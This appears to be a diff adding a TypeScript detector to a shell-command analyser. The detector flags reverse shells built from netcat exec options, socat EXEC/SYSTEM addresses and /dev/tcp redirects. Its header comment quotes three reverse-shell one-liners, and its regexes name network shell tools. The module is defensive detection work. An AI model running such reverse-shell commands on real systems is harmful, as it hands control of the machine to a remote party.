@@ -1,0 +1,54 @@
+/**
+ * A program wired to a network connection (`nc -e /bin/sh host 4444`, `socat exec:bash tcp:h:p`,
+ * `bash < /dev/tcp/h/p`): whoever is at the other end runs code, so it is a finding however
+ * harmless the program looks. socat's EXEC/SYSTEM addresses are also parsed as code.
+ */
+
+import type { Word } from "../../facts/types.js";
+import type { CommandView } from "../command.js";
+import type { Env, Unwrapper } from "./types.js";
+import { runString } from "./strings.js";
+
+/** /dev/tcp and /dev/udp: bash opens a socket for a redirect to these. */
+export const NET_DEVICE = /^\/dev\/(?:tcp|udp)\//;
+
+export function reverseShell(env: Env, w: Word, what: string): void {
+  const r = env.at(w);
+  env.out.findings.push({ id: "shell/reverse-shell", message: `${what} connects a program to the network: whoever is at the other end runs commands here.`, start: r[0], end: r[1] });
+}
+
+/** netcat's options that run a program on the connection (`-e prog`, `-c 'cmd'`, ncat's `--sh-exec`). */
+const NC_EXEC = /^-[A-Za-z0-9]*[ec][^]*$|^--(?:exec|sh-exec|lua-exec)(?:=|$)/;
+
+export const netcatUnwrapper: Unwrapper = {
+  name: "netcat-exec",
+  commands: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
+  unwrap: (v, e) => {
+    for (let k = 1; k < v.args.length; k++) {
+      const a = v.args[k] as string;
+      // Options only: an operand (host, port) cannot run anything.
+      if (a.startsWith("-") && a !== "-" && NC_EXEC.test(a)) return reverseShell(e, v.words[k] as Word, `${v.name} ${a}`);
+    }
+  },
+};
+
+/** socat addresses that run a program (EXEC) or a shell command (SYSTEM); the rest are channels. */
+const SOCAT_RUN = /^(exec|system):([^]*)$/i;
+const SOCAT_NET = /^(?:tcp|udp|sctp|dccp|openssl|ssl|socks|proxy|vsock|ip|tun|udp-sendto|tcp-l|tcp-listen|tcp4|tcp6|udp4|udp6|udp-l|udp-listen|openssl-listen|tcp4-listen|tcp6-listen)[\w-]*:/i;
+
+export const socatUnwrapper: Unwrapper = { name: "socat-exec", commands: ["socat"], unwrap: (v, e) => socatAddresses(v, e) };
+
+function socatAddresses(view: CommandView, env: Env): void {
+  const addrs: number[] = [];
+  for (let k = 1; k < view.args.length; k++) if (!(view.args[k] as string).startsWith("-") || view.args[k] === "-") addrs.push(k);
+  const net = addrs.some((k) => SOCAT_NET.test(view.args[k] as string));
+  for (const k of addrs) {
+    const m = SOCAT_RUN.exec(view.args[k] as string);
+    if (m === null) continue;
+    const w = view.words[k] as Word;
+    if (net) reverseShell(env, w, `socat ${m[1]}:`);
+    // EXEC:prog args,opt=… / SYSTEM:cmd,opt=…: the code ends at the first option comma.
+    const code = (m[2] as string).replace(/,[a-z-]+(?:=[^,]*)?(?:,[a-z-]+(?:=[^,]*)?)*$/i, "");
+    runString(view, { ...w, value: code }, env.at(w), env.nest, env.out, `an ${m[1]}: address`);
+  }
+}
